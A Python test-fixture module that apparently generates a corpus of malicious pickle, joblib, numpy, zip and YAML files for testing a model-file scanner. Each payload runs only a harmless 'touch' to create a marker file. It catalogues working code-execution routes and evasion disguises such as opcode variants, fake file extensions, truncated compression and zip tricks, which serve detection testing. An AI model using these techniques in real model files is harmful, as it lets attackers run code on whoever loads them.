"""Files that run something when they are loaded: the something makes one file or folder, `mark`, and nothing else.

In: a folder for marks and helper files. Out: `Payload`s: file name, bytes, and how a victim loads it. The
pickles are written opcode by opcode, so that each spelling is exactly the one that is meant.
"""

# ruff: noqa: E501 - opcodes are read in one line

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

import joblib  # type: ignore[import-untyped]
import numpy as np

from tests.artifact.assembler import Call, Name, Raw, dumped, frame, push


@dataclass(frozen=True)
class Payload:
    """One file; `load` names how it is loaded in `LOADERS` of the child; `old_only`: newer unpicklers refuse it."""

    what: str
    file: str
    made: bytes | Callable[[], bytes]
    load: str = "pickle"
    old_only: bool = False

    @property
    def raw(self) -> bytes:
        """The bytes of the file."""
        return self.made if isinstance(self.made, bytes) else self.made()


def calls(mark: str, code: str, evil: str) -> dict[str, Any]:
    """Calls that make the mark, each by another function. `evil` is a file with a pickle that does."""
    touch, system = f"touch {mark}", Name("os", "system")
    path = Call(Name("pathlib", "PosixPath"), (mark,))
    compiled = marshal.dumps(compile(code, "x", "exec"))
    lazy = Call(Name("builtins", "map"), (system, [touch]))
    process, late = Name("subprocess", "Popen"), Call(Name("builtins", "str"), ("system",))
    delayed = Call(Call(Name("joblib", "delayed"), (system,)), (touch,))
    registered = Call(Name("copyreg", "add_extension"), ("os", "system", 77))
    module = Call(Name("importlib", "import_module"), ("os",))
    function = Call(Name("types", "FunctionType"), (Call(Name("marshal", "loads"), (compiled,)), {}))
    made: dict[str, Any] = {
        "os.system": Call(system, (touch,)),
        "posix.system": Call(Name("posix", "system"), (touch,)),
        "popen of os": Call(Name("os", "popen"), (touch,)),
        "spawn": Call(Name("os", "spawnlp"), (0, "touch", "touch", mark)),
        "popen": Call(Name("subprocess", "check_call"), (["touch", mark],)),
        "getoutput": Call(Name("subprocess", "getoutput"), (touch,)),
        "exec": Call(Name("builtins", "exec"), (code,)),
        "eval": Call(Name("builtins", "eval"), (f"open({mark!r}, 'w')",)),
        "compiled": Call(Name("builtins", "exec"), (Call(Name("builtins", "compile"), (code, "x", "exec")),)),
        "open": Call(Name("builtins", "open"), (mark, "w")),
        "io.open": Call(Name("io", "open"), (mark, "w")),
        "_io": Call(Name("_io", "FileIO"), (mark, "w")),
        "_pyio": Call(Name("_pyio", "open"), (mark, "w")),
        "codecs.open": Call(Name("codecs", "open"), (mark, "wb")),
        "gzip.open": Call(Name("gzip", "open"), (mark, "wb")),
        "mkdir": Call(Name("os", "mkdir"), (mark,)),
        "mkfifo": Call(Name("posix", "mkfifo"), (mark,)),
        "symlink": Call(Name("os", "symlink"), ("nowhere", mark)),
        "sqlite": Call(Name("sqlite3", "connect"), (mark,)),
        "zip": Call(Name("zipfile", "ZipFile"), (mark, "w")),
        "tar": Call(Name("tarfile", "open"), (mark, "w")),
        "log": Call(Name("logging", "FileHandler"), (mark,)),
        "copy": Call(Name("shutil", "copyfile"), (evil, mark)),
        "rename": Call(Name("os", "link"), (evil, mark)),
        "timeit": Call(Name("timeit", "timeit"), (code, "pass", Name("time", "perf_counter"), 1)),
        "profile": Call(Name("cProfile", "run"), (code, None)),
        "debugger": Call(Call(Name("builtins", "getattr"), (Call(Name("bdb", "Bdb"), ()), "run")), (code,)),
        "interpreter": Call(
            Call(Name("builtins", "getattr"), (Call(Name("code", "InteractiveInterpreter"), ()), "runcode")), (code,)
        ),
        "runpy": Call(Name("runpy", "_run_code"), (Call(Name("builtins", "compile"), (code, "x", "exec")), {})),
        "doctest": Call(Name("runpy", "run_path"), (evil + ".py",)),
        "getattr": Call(Call(Name("builtins", "getattr"), (path, "touch")), ()),
        "getattr chain": Call(Call(Name("builtins", "getattr"), (module, "system")), (touch,)),
        "import": Call(
            Call(Name("builtins", "getattr"), (Call(Name("builtins", "__import__"), ("os",)), "system")), (touch,)
        ),
        "methodcaller": Call(Call(Name("operator", "methodcaller"), ("touch",)), (path,)),
        "attrgetter": Call(Call(Call(Name("operator", "attrgetter"), ("system",)), (module,)), (touch,)),
        "partial": Call(Call(Name("functools", "partial"), (system, touch)), ()),
        "list of map": Call(Name("builtins", "list"), (lazy,)),
        "bytes of map": Call(Name("builtins", "bytes"), (lazy,)),
        "counter of map": Call(Name("collections", "Counter"), (lazy,)),
        "deque of map": Call(Name("collections", "deque"), (lazy,)),
        "dict from map": Call(Name("builtins", "dict.fromkeys"), (lazy,)),
        "array of map": Call(Name("array", "array"), ("b", lazy)),
        "type with init": Call(
            Call(Call(Name("builtins", "type"), ("T", (), {"__call__": system})), ()), (touch,)
        ),
        "code object": Call(function, ()),
        "pickle in pickle": Call(Name("pickle", "loads"), (dumped(Call(system, (touch,))),)),
        "_pickle in pickle": Call(Name("_pickle", "loads"), (dumped(Call(system, (touch,))),)),
        "unpickler": Call(Name("pickle", "load"), (Call(Name("io", "open"), (evil, "rb")),)),
        "dotted name": Call(Name("pathlib", "os.system"), (touch,)),
        "method of a class": Call(Name("pathlib", "Path.touch"), (path,)),
        "reconstructor": Call(Name("copyreg", "_reconstructor"), (process, process, ["touch", mark])),
        "name at run time": Call(Raw(push("os") + push(late) + b"\x93"), (touch,)),
        "numpy loads a pickle": Call(Name("numpy", "load"), (evil, None, True)),
        "numpy memmap": Call(Name("numpy", "memmap"), (mark, "uint8", "w+", 0, (1,))),
        "numpy saves": Call(Name("numpy", "save"), (mark + ".npy", 1)),
        "numpy method": Call(Name("numpy", "ndarray.tofile"), (Call(Name("numpy", "array"), (1,)), mark)),
        "numpy test tool": Call(Name("numpy.testing._private.utils", "runstring"), (code, {})),
        "numpy through a module": Call(Name("numpy", "lib._npyio_impl.os.system"), (touch,)),
        "numpy repository": Call(Name("numpy.lib._datasource", "os.mkdir"), (mark,)),
        "fortran": Call(Name("numpy.f2py.crackfortran", "myeval"), (f"open({mark!r}, 'w')",)),
        "scikit-learn makes a folder": Call(Name("sklearn.datasets._base", "get_data_home"), (mark,)),
        "scikit-learn through a module": Call(Name("sklearn.datasets._base", "os.mkdir"), (mark,)),
        "scikit-learn transforms": Call(
            Name("sklearn.preprocessing._function_transformer", "FunctionTransformer._transform"),
            (Call(Name("builtins", "object"), ()), touch, system),
        ),
        "joblib loads": Call(Name("joblib", "load"), (evil,)),
        "joblib parallel": Call(Call(Name("joblib.parallel", "Parallel"), (1,)), ([delayed],)),
        "joblib dumps": Call(Name("joblib", "dump"), (1, mark)),
        "extension": Raw(push(registered) + b"0\x82\x4d" + push((touch,)) + b"R"),
        "module import": Call(Name("importlib", "import_module"), (Path(evil).stem + "_module",)),
        "source loader": Call(
            Call(
                Name("builtins", "getattr"),
                (Call(Name("importlib.machinery", "SourceFileLoader"), ("m", evil + ".py")), "load_module"),
            ),
            (),
        ),
    }  # fmt: skip
    made["name found by import"] = Raw(push(Name(Path(evil).stem + "_module", "x")))
    return made


def spellings(mark: str, code: str) -> Iterator[tuple[str, bytes]]:
    """The same call written with every opcode that can make one."""
    touch = f"touch {mark}".encode()
    short = b"\x8c" + bytes([len(touch)]) + touch
    long = push(touch.decode())
    yield "GLOBAL", b"\x80\x02cposix\nsystem\n" + long + b"\x85R."
    yield "GLOBAL in protocol 0", b"cposix\nsystem\n(S'" + touch + b"'\ntR."
    yield "old builtins", b"c__builtin__\neval\n(S\"open('" + mark.encode() + b"', 'w')\"\ntR."
    yield "old module", b"\x80\x02ccommands\ngetoutput\n" + long + b"\x85R."
    yield "INST", b"(S'" + touch + b"'\niposix\nsystem\n."
    yield "OBJ", b"\x80\x02(cposix\nsystem\n" + long + b"o."
    yield (
        "NEWOBJ",
        b"\x80\x04"
        + push(Name("builtins", "bytes"))
        + b"cbuiltins\nmap\ncposix\nsystem\n]("
        + long
        + b"e\x86\x81\x85\x81.",
    )
    yield (
        "NEWOBJ_EX",
        b"\x80\x04"
        + push(Name("builtins", "tuple"))
        + b"cbuiltins\nmap\ncposix\nsystem\n]("
        + long
        + b"e\x86}\x92\x85}\x92.",
    )
    yield "memo", b"\x80\x04\x8c\x06system\x94\x8c\x05posix\x94h\x01h\x00\x93" + long + b"\x85R."
    yield (
        "memo written over",
        b"\x80\x04\x8c\x05numpyq\x00\x8c\x05posixq\x00\x8c\x06systemr\x01\x00\x00\x00h\x00j\x01\x00\x00\x00\x93"
        + long
        + b"\x85R.",
    )
    yield "memo in text", b"Vposix\np5\n0Vsystem\np6\n0g5\ng6\n\x93(V" + touch + b"\ntR."
    yield "DUP", b"\x80\x04\x8c\x05posix2\x8c\x06system\x93" + long + b"\x85R0."
    yield "escapes", b"Vp\\u006fsix\nVsystem\n\x93(V" + touch + b"\ntR."
    yield "a call thrown away", b"\x80\x04\x8c\x05posix\x8c\x06system\x93" + long + b"\x85R0N."
    yield "a call under a mark", b"\x80\x04(\x8c\x05posix\x8c\x06system\x93" + long + b"\x85R1N."
    yield "a call before a break", b"\x80\x04\x8c\x05posix\x8c\x06system\x93" + long + b"\x85R\xff"
    yield "a call before the bytes end", b"\x80\x04\x8c\x05posix\x8c\x06system\x93" + long + b"\x85R"
    yield "short text", b"\x80\x04\x8c\x05posix\x8c\x06system\x93" + short + b"\x85R."
    yield (
        "a text as arguments",
        b"\x80\x04"
        + push(Name("builtins", "list"))
        + push(Call(Name("builtins", "map"), (Name("posix", "system"), [touch.decode()])))
        + b"\x85R.",
    )
    yield "framed", b"\x80\x04" + frame(b"\x8c\x05posix\x8c\x06system\x93" + long + b"\x85R.")
    yield (
        "frames apart",
        b"\x80\x04" + frame(b"\x8c\x05posix") + b"\x8c\x06system" + frame(b"\x93" + long) + b"\x85R.",
    )
    yield "protocol twice", b"\x80\x04\x80\x02cposix\nsystem\n" + long + b"\x85R."
    yield "protocol 5", b"\x80\x05\x8c\x05posix\x8c\x06system\x93" + long + b"\x85R."
    method = push(Name("string", "Template"))
    yield (
        "BUILD of a class",
        (
            b"\x80\x04"
            + method
            + b"N}"
            + push("__setstate__")
            + push(Name("builtins", "exec"))
            + b"s\x86b0"
            + method
            + b")\x81"
            + push(code)
            + b"b."
        ),
    )
    listed = push(Name("sklearn._loss.link", "LogitLink"))
    replaced = b"N}" + push("__setstate__") + push(Name("builtins", "exec")) + b"s\x86b0"
    slots = b")\x81N}" + push("append") + push(Name("posix", "system")) + b"s\x86b"
    yield "slots of a listed class", b"\x80\x04" + listed + slots + long + b"a."
    yield "BUILD of a listed class", b"\x80\x04" + listed + replaced + listed + b")\x81" + push(code) + b"b."
    yield (
        "items of a foreign object",
        (
            b"\x80\x04"
            + push(Call(Name("builtins", "type"), ("T", (), {"append": Name("posix", "system")})))
            + b")R"
            + b"0"
            + push(Call(Name("types", "SimpleNamespace"), ()))
            + b"}"
            + push("append")
            + push(Name("posix", "system"))
            + b"sb"
            + long
            + b"a."
        ),
    )
    yield "junk before", b"\x80\x04" + b"N0" * 3000 + b"\x8c\x05posix\x8c\x06system\x93" + long + b"\x85R."
    yield "large literal before", b"\x80\x04B" + struct.pack("<I", 1 << 20) + bytes(1 << 20) + b"0cposix\nsystem\n" + long + b"\x85R."  # fmt: skip


def files(mark: str, evil: bytes) -> Iterator[Payload]:
    """The same pickle in other clothes: packed, renamed, behind something, inside something."""
    endless = b"(S'touch " + mark.encode() + b"'\niposix\nsystemX"
    yield Payload("INST without an end", "m.pkl", endless, "pickle in Python")
    yield Payload("a text file", "notes.txt", evil)
    yield Payload("a JSON file", "config.json", evil)
    yield Payload("a CSV file", "data.csv", b"cposix\nsystem\n(S'touch " + mark.encode() + b"'\ntR.\n1,2\n")
    yield Payload("a picture", "plot.png", evil)
    yield Payload("safetensors by name", "model.safetensors", evil)
    packers: dict[str, Callable[[bytes], bytes]] = {
        "zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress,
        "lzma": lambda raw: lzma.compress(raw, lzma.FORMAT_ALONE),
    }  # fmt: skip
    for packer, pack in packers.items():
        yield Payload(f"{packer} joblib", "model.joblib", pack(evil), "joblib")
        yield Payload(f"{packer} joblib cut off", "model.joblib", partial(_cut, pack, evil), "joblib")
    yield Payload("plain joblib", "model.joblib", evil, "joblib")
    half = len(evil) // 2
    yield Payload("gzip in two members", "m.gz", gzip.compress(evil[:half]) + gzip.compress(evil[half:]), "gzip")
    yield Payload("bz2 in two members", "m.bz2", bz2.compress(evil[:half]) + bz2.compress(evil[half:]), "bz2")
    yield Payload("gzip with a name", "m.gz", _named_gzip(evil), "joblib")
    yield Payload("after STOP", "model.pkl", pickle.dumps({"a": 1}) + evil, "twice")
    yield Payload("after an array", "a.npy", _npy(np.arange(3)) + evil, "array then pickle")
    yield Payload("objects in npy", "a.npy", _objects(evil), "numpy")
    yield Payload("objects in npz", "a.npz", _zip({"a.npy": _objects(evil)}), "npz")
    yield Payload("pickle by the name of npy", "a.npy", evil, "numpy")
    yield Payload("second directory of a zip", "a.npz", _zip({"a.npy": _npy(np.arange(3))}) + _zip({"a.npy": _objects(evil)}), "npz")  # fmt: skip
    yield Payload("member twice", "a.npz", _twice(_npy(np.arange(3)), _objects(evil)), "npz")
    behind = b"hello, this is text\n" + _zip({"archive/data.pkl": evil})
    yield Payload("zip behind text", "notes.txt", behind, "zipped pickle")
    yield Payload("zip with a comment", "a.npz", _commented(_zip({"a.npy": _objects(evil)})), "npz")
    yield Payload(
        "torch-like zip", "m.pt", _zip({"archive/data.pkl": evil, "archive/version": b"3\n"}), "zipped pickle"
    )
    yield Payload("packed torch-like zip", "m.pt", _zip({"archive/data.pkl": evil}, packed=True), "zipped pickle")
    yield Payload("zip in a zip", "m.zip", _zip({"in.zip": _zip({"archive/data.pkl": evil})}), "zip in zip")
    yield Payload("objects in joblib", "m.joblib", _joblib_objects(evil), "joblib")
    yield Payload("objects in packed joblib", "m.joblib", zlib.compress(_joblib_objects(evil)), "joblib")
    yield Payload("yaml", "card.yaml", f"a: !!python/object/apply:os.system ['touch {mark}']\n".encode(), "yaml")
    yield Payload("yaml by prefix", "card.yaml",
                  f"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['touch {mark}']\n".encode(), "yaml")  # fmt: skip
    yield Payload("persistent id", "m.pkl", b"\x80\x02" + push(f"open({mark!r}, 'w')") + b"Q.", "persistent")
    yield Payload("persistent id in text", "m.pkl", b"Popen('" + mark.encode() + b"','w')\n.", "persistent")
    straddle = b"\x00\x000" + b"\x8c\x05posix\x8c\x06system\x93" + push(f"touch {mark}") + b"\x85R."
    framed = b"B" + struct.pack("<H", len(straddle))
    raw = b"\x80\x04\x95" + struct.pack("<Q", len(framed)) + framed + b"\x00\x00" + straddle + b"."
    yield Payload("a literal across a frame", "m.pkl", raw, "pickle from memory", old_only=True)


def payloads(folder: Path) -> Iterator[Payload]:
    """Every payload; what it makes is `folder / "marks" / plain(what)`. Helper files are written beside."""
    for make in (_by_calls, _by_spellings, _by_files):
        for what in make(folder, ""):
            yield make(folder, what)[what]


def plain(what: str) -> str:
    """A file name for it."""
    return "".join(one if one.isalnum() else "_" for one in what)


def _mark(folder: Path, what: str) -> str:
    return str(folder / "marks" / plain(what))


def _by_calls(folder: Path, what: str) -> dict[str, Payload]:
    mark = _mark(folder, what)
    code, helper = f"open({mark!r}, 'w').close()", folder / "helpers" / f"h_{plain(what)}"
    helper.write_bytes(dumped(Call(Name("posix", "system"), (f"touch {mark}",))))
    helper.with_name(helper.name + ".py").write_text(code)
    helper.with_name(helper.name + "_module.py").write_text(code + "\nx = 1\n")
    return {one: Payload(one, "model.pkl", dumped(value)) for one, value in calls(mark, code, str(helper)).items()}


def _by_spellings(folder: Path, what: str) -> dict[str, Payload]:
    mark = _mark(folder, what)
    return {one: Payload(one, "m.pkl", raw) for one, raw in spellings(mark, f"open({mark!r}, 'w').close()")}


def _by_files(folder: Path, what: str) -> dict[str, Payload]:
    mark = _mark(folder, what)
    evil = dumped(Call(Name("posix", "system"), (f"touch {mark}",)))
    return {one.what: one for one in files(mark, evil)}


def _cut(pack: Callable[[bytes], bytes], evil: bytes) -> bytes:
    """A packed stream that breaks off after the pickle in it."""
    return pack(evil + np.random.default_rng(1).bytes(3 << 20))[:-3]


def _named_gzip(raw: bytes) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile("weights.bin", "wb", fileobj=out) as file:
        file.write(raw)
    return out.getvalue()


def _npy(array: Any) -> bytes:
    out = io.BytesIO()
    np.save(out, array, allow_pickle=True)
    return out.getvalue()


def _objects(evil: bytes) -> bytes:
    whole = _npy(np.array([1], dtype=object))
    return whole[: whole.index(b"\n") + 1] + evil


def _joblib_objects(evil: bytes) -> bytes:
    out = io.BytesIO()
    joblib.dump([np.array([1], dtype=object), 2], out)
    whole = out.getvalue()
    start = whole.rindex(b"\x80\x05" if whole.count(b"\x80\x05") > 1 else b"\x80\x04")
    return whole[:start] + evil + whole[start:]


def _zip(members: dict[str, bytes], packed: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as file:
        for member, raw in members.items():
            file.writestr(member, raw)
    return out.getvalue()


def _twice(first: bytes, second: bytes) -> bytes:
    """Two members of one name; zipfile reads the last."""
    return _zip({"a.npy": first, "b.npy": second}).replace(b"b.npy", b"a.npy")


def _commented(raw: bytes) -> bytes:
    return raw[:-2] + struct.pack("<H", 5) + b"hello"
